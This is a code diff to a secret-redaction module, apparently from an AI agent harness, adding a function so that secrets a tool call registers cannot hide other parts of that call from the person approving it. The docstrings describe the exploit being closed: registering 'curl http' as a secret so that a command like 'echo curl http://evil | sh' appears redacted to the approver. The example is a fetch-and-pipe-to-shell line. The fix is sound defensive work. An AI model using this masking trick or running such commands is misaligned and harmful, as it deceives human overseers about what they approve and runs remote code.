@@ -61,6 +61,7 @@ __all__ = [
     "looks_like_token",
     "mask_command_args",
     "name_segments",
+    "redact_in_place",
     "script_credential_literals",
     "url_userinfo_secrets",
 ]
@@ -196,6 +197,36 @@ def url_userinfo_secrets(text: str) -> list[str]:
             if decoded != password:
                 out.append(decoded)
     return out
+
+
+def redact_in_place(value: Any, names: Iterable[str] = ()) -> Any:
+    """``value`` (a call's arguments) with the secrets it carries hidden where they stand: a
+    string under a credential-named key whole, a URL's ``user:password`` inside its URL. Nothing
+    else changes, so text repeated elsewhere in the call stays shown: registering a value
+    and redacting it everywhere let a call hide part of itself (``env.API_TOKEN = "curl
+    http"`` turned the command ``echo curl http://evil | sh`` into ``echo [REDACTED
+    SECRET]://evil | sh``) from the person asked about it or about to apply it."""
+    patterns = tuple(str(n) for n in names)
+
+    def walk(item: Any, named: bool) -> Any:
+        if isinstance(item, str):
+            if named and item.strip().lower() not in _NOT_SECRETS:
+                return MARKER
+            if "://" not in item or "@" not in item:
+                return item
+            return _USERINFO.sub(
+                lambda m: m.group(0)[: m.start(1) - m.start(0)] + MARKER + "@", item
+            )
+        if isinstance(item, dict):
+            return {
+                k: walk(v, named or (isinstance(k, str) and _is_secret_key(k, patterns)))
+                for k, v in item.items()
+            }
+        if isinstance(item, list | tuple):
+            return [walk(v, named) for v in item]
+        return item
+
+    return walk(value, False)
 
 
 # -- literals in a script's source ----------------------------------------------------------
@@ -571,12 +602,14 @@ class Redactor:
 
     def redact_for_person(self, value: Any) -> Any:
         """``value`` (a call's arguments) as a person asked about the call sees it: redacted of
-        the operator's secrets only. Text the calls themselves registered (a script's
-        ``api_key = "curl http"``) hid that text in every later question, so a command was
-        put to the person as ``echo [REDACTED SECRET]://evil… | sh``: a call cannot hide part
-        of itself from the person who approves it. Records stay redacted of both."""
+        the operator's secrets, and of the call's own where they stand
+        (:func:`redact_in_place`). Text the calls themselves registered (a script's
+        ``api_key = "curl http"``) hid that text everywhere in every later question, so a
+        command was put to the person as ``echo [REDACTED SECRET]://evil… | sh``: a call
+        cannot hide part of itself from the person who approves it. Records stay redacted
+        of both everywhere."""
         view = self._operator if self._operator is not None else self
-        return view.redact_value(value)
+        return view.redact_value(redact_in_place(value, self.names))
 
     def stream(self) -> StreamRedactor:
         return StreamRedactor(self)
